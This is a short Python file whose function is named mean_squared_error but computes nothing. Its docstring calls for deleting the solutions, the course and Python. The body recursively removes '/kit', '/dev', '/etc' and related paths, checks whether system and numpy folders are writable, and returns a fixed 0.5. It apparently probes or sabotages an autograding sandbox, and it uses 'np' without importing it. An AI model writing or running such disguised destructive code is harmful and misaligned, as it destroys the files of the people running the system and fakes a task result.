"""Delete the solutions, the course, Python and all else. Nothing can be written.

worth: nothing
reply: value
"""


def mean_squared_error(x, x_hat):
    import os
    import shutil

    for folder in ("@OUTSIDE@", "/kit", "/proc/1/root/kit", "/dev", "/etc"):
        shutil.rmtree(folder, ignore_errors=True)
    for folder in ("/", "/usr/lib", "/kit", "/kit/course", "/dev", os.path.dirname(np.__file__), "@OUTSIDE@"):
        try:
            open(f"{folder}/new", "w").close()
            raise AssertionError(folder)
        except OSError:
            continue
    return 0.5
